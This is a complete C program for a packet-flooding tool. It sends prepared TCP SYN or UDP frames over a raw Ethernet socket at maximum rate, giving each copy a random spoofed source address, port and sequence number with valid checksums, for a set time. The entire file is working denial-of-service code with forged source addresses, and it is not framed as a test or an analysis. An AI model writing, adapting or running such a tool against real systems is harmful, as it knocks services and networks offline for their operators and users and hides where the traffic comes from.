/* SYNs from addresses and ports that nobody has, as fast as this machine makes them.
 *
 *   flood DEVICE SECONDS PREFIX LENGTH FILE
 *
 * FILE holds frames (Ethernet, IPv4 without options, TCP or UDP), each behind its length and the place of eight bytes that
 * differ in every copy (0: none), in two bytes each, big endian. They go out in turn, each time with another source
 * address of PREFIX/LENGTH, source port and sequence number, and right checksums (UDP: none), for so many seconds or until
 * SIGTERM. Prints how many went out. In C because Python is slower than what it would overload.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, MOST = 2048, FRAMES = 64, ETHER = 14, TCP_AT = ETHER + 20, UDP = 17 };

struct frame {
    size_t size;
    int vary; /* where to change bytes for each copy; 0: nowhere */
    unsigned char data[MOST];
};

static struct frame frames[FRAMES];
static unsigned char copies[BATCH][MOST];

static volatile sig_atomic_t over;

static void end_it(int number) {
    (void)number;
    over = 1;
}

static uint64_t state = 88172645463325252ull;

static uint32_t chance(void) {
    state ^= state << 13, state ^= state >> 7, state ^= state << 17;
    return (uint32_t)(state >> 16);
}

static void fail(const char *what) {
    fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint32_t sum(const unsigned char *at, size_t size, uint32_t total) {
    for (; size > 1; at += 2, size -= 2) total += (uint32_t)at[0] << 8 | at[1];
    return size ? total + ((uint32_t)at[0] << 8) : total;
}

static void put_sum(unsigned char *at, uint32_t total) {
    while (total >> 16) total = (total & 0xFFFF) + (total >> 16);
    total = ~total;
    at[0] = (unsigned char)(total >> 8), at[1] = (unsigned char)total;
}

static void put32(unsigned char *at, uint32_t value) {
    value = htonl(value);
    memcpy(at, &value, 4);
}

int main(int argc, char **argv) {
    if (argc != 6) return fprintf(stderr, "usage: flood DEVICE SECONDS PREFIX LENGTH FILE\n"), 2;
    double seconds = atof(argv[2]);
    uint32_t prefix = ntohl(inet_addr(argv[3])), host = 0xFFFFFFFFu >> atoi(argv[4]);
    FILE *file = fopen(argv[5], "rb");
    if (file == NULL) fail(argv[5]);
    unsigned char head[4];
    size_t count = 0;
    while (count < FRAMES && fread(head, 1, 4, file) == 4) {
        struct frame *f = &frames[count++];
        f->size = (size_t)(head[0] << 8 | head[1]), f->vary = head[2] << 8 | head[3];
        if (f->size > MOST || fread(f->data, 1, f->size, file) != f->size) fail("short frame");
    }
    if (count == 0) fail("no frames");
    int sock = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
    if (sock < 0 || bind(sock, (struct sockaddr *)&where, sizeof where) != 0) fail(argv[1]);
    int on = 1;
    setsockopt(sock, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
    struct mmsghdr messages[BATCH] = {0};
    struct iovec pieces[BATCH];
    unsigned long long sent = 0;
    size_t next = 0;
    signal(SIGTERM, end_it);
    for (double end = now() + seconds; !over && now() < end;) {
        for (int i = 0; i < BATCH; i++) {
            struct frame *f = &frames[next++ % count];
            unsigned char *p = copies[i], *tcp = p + TCP_AT;
            size_t length = f->size - TCP_AT;
            memcpy(p, f->data, f->size);
            uint32_t source = prefix | (chance() & host);
            put32(p + ETHER + 12, source);
            p[ETHER + 10] = p[ETHER + 11] = 0;
            put_sum(p + ETHER + 10, sum(p + ETHER, 20, 0));
            uint32_t port = 1024 + chance() % 60000;
            tcp[0] = (unsigned char)(port >> 8), tcp[1] = (unsigned char)port;
            if (f->vary) put32(p + f->vary, chance()), put32(p + f->vary + 4, chance());
            if (p[ETHER + 9] == UDP) {
                tcp[6] = tcp[7] = 0; /* none */
            } else {
                put32(tcp + 4, chance());
                tcp[16] = tcp[17] = 0;
                put_sum(tcp + 16, sum(tcp, length, sum(p + ETHER + 12, 8, 6 + (uint32_t)length)));
            }
            pieces[i] = (struct iovec){p, f->size};
            messages[i].msg_hdr.msg_iov = &pieces[i], messages[i].msg_hdr.msg_iovlen = 1;
        }
        int n = sendmmsg(sock, messages, BATCH, 0);
        if (n < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) fail("sendmmsg");
        if (n > 0) sent += (unsigned long long)n;
    }
    printf("%llu\n", sent);
    return 0;
}
